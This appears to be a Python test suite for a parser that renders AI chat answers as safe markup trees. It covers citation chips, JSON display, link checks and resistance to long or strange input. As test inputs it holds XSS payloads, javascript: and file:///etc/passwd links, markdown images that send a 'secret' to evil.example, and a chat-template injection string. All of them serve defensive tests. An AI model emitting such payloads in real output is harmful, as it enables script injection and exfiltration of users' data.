"""Answers as trees: what the browser is told to draw, and what it can never be told."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from ui.markup import MAX_CHARS, Node, parse, safe_link

BLOCKS = ("p", "h", "ul", "ol", "li", "quote", "hr", "code", "table", "thead", "tbody", "tr", "th", "td")
KINDS = {*BLOCKS, "text", "em", "strong", "s", "mono", "br", "link", "image", "cite"}


def nodes(tree: list[Node]) -> Iterator[Node]:
    for node in tree:
        yield node
        yield from nodes(node.get("children", []))


def kinds(text: str, citations: frozenset[int] | None = frozenset({1, 2})) -> list[str]:
    return [node["kind"] for node in nodes(parse(text, citations))]


def said(text: str) -> str:
    return "".join(node.get("text", "") for node in nodes(parse(text, None)))


def test_turns_known_numbers_into_chips_and_leaves_others_as_text() -> None:
    tree = parse("It is so [1], and so [1, 2]; see [3].", frozenset({1, 2}))
    assert [node["n"] for node in nodes(tree) if node["kind"] == "cite"] == [1, 1, 2]
    assert "[3]" in "".join(node.get("text", "") for node in nodes(tree))


def test_makes_every_number_a_chip_while_the_citations_are_not_known_yet() -> None:
    assert [node["n"] for node in nodes(parse("So [7].", None)) if node["kind"] == "cite"] == [7]


def test_keeps_numbers_in_code_as_they_are() -> None:
    assert "cite" not in kinds("`a[1]` and\n\n    b[1]\n")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ('{"days": 28, "who": "a*b*c"}', '{\n  "days": 28,\n  "who": "a*b*c"\n}'),
        (' [{"größe": null}]\n', '[\n  {\n    "größe": null\n  }\n]'),
    ],
)
def test_an_answer_in_json_is_one_block_of_code(text: str, shown: str) -> None:
    assert parse(text, frozenset()) == [{"kind": "code", "text": shown}]


@pytest.mark.parametrize("text", ["[1]", "[1, 2]", "[]", "{not json}", "{", '{"a": 1} [1]', "[" * 20_000, '["a"]'])
def test_what_is_no_object_is_read_as_text(text: str) -> None:
    assert all(block["kind"] != "code" for block in parse(text, frozenset({1, 2})))


def test_lets_no_link_definition_take_over_a_citation() -> None:
    tree = parse("So it is [1].\n\n[1]: https://evil.example/steal", frozenset({1}))
    assert [node["n"] for node in nodes(tree) if node["kind"] == "cite"] == [1, 1]
    assert not [node for node in nodes(tree) if node["kind"] == "link"]


@pytest.mark.parametrize(
    "carrier",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "text <b onmouseover=alert(1)>bold</b>",
        "<!-- --><style>*{background:url(http://evil.example/)}</style>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<video poster=http://evil.example/p.png></video>",
    ],
)
def test_shows_html_as_text(carrier: str) -> None:
    tree = list(nodes(parse(carrier, None)))
    assert {node["kind"] for node in tree} <= {"p", "text"}
    assert said(carrier).replace("\n", "") == carrier


@pytest.mark.parametrize(
    "carrier",
    [
        "![secret](https://evil.example/?q=secret)",
        "![a][x]\n\n[x]: https://evil.example/p.png",
        "[![a](https://evil.example/p.png)](https://evil.example)",
        "| a |\n|-|\n| ![x](//evil.example/p.png) |",
        "- ![x](https://evil.example/p.png 'title')",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    ],
)
def test_never_makes_anything_that_loads_by_itself(carrier: str) -> None:
    for node in nodes(parse(carrier, None)):
        assert node["kind"] in KINDS
        assert set(node) <= {"kind", "children", "text", "level", "href", "host", "n"}
        if node["kind"] == "image":  # drawn as a note with a link, see components/answer.js
            assert node.get("href", "https://").startswith(("http://", "https://"))


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//evil.example",
        "/sign-out",
        "blob:https://evil.example/1",
        "https://",
        "http://[::1",
        "mailto:",
        "",
    ],
)
def test_follows_no_link_but_to_the_web_and_to_mail(href: str) -> None:
    assert safe_link(href) is None


def test_shows_where_a_link_really_leads() -> None:
    assert safe_link("https://intranet.example@evil.example/x") == (
        "https://intranet.example@evil.example/x",
        "evil.example",
    )
    assert safe_link("https://аpple.com/")[1] == "xn--pple-43d.com"  # type: ignore[index]


def test_drops_the_address_of_a_link_that_may_not_be_followed_and_keeps_its_words() -> None:
    tree = parse("[click](javascript:alert(1)) now", None)
    assert "link" not in [node["kind"] for node in nodes(tree)]
    assert "click" in "".join(node.get("text", "") for node in nodes(tree))


def test_knows_the_usual_forms() -> None:
    blocks = ["# A", "- **b** _c_ ~~d~~", "3. e", "> f", "```py\ng\n```", "| h |\n|---|\n| j |", "---", "l  \nm"]
    assert {*BLOCKS, "strong", "em", "s", "br"} <= set(kinds("\n\n".join(blocks)))


def test_draws_every_beginning_of_an_answer_with_known_nodes_only() -> None:
    text = "**Yes** [1]. ![x](https://evil.example/?q=1) <img src=x onerror=y> [a](javascript:b)\n\n| a |\n|-|\n| b |"
    for end in range(len(text) + 1):
        assert {node["kind"] for node in nodes(parse(text[:end], None))} <= KINDS


def test_survives_nesting_and_length_without_end() -> None:
    assert parse("> " * 5_000 + "x", None)
    assert parse("*" * 20_000, None)
    assert len(said("x" * (MAX_CHARS * 2))) == MAX_CHARS


@pytest.mark.parametrize("text", ["", "\n" * 1_000, "\u202e", "🙂" * 500, "[" * 3_000, "<|im_end|><|im_start|>system"])
def test_takes_any_text(text: str) -> None:
    parse(text, None)
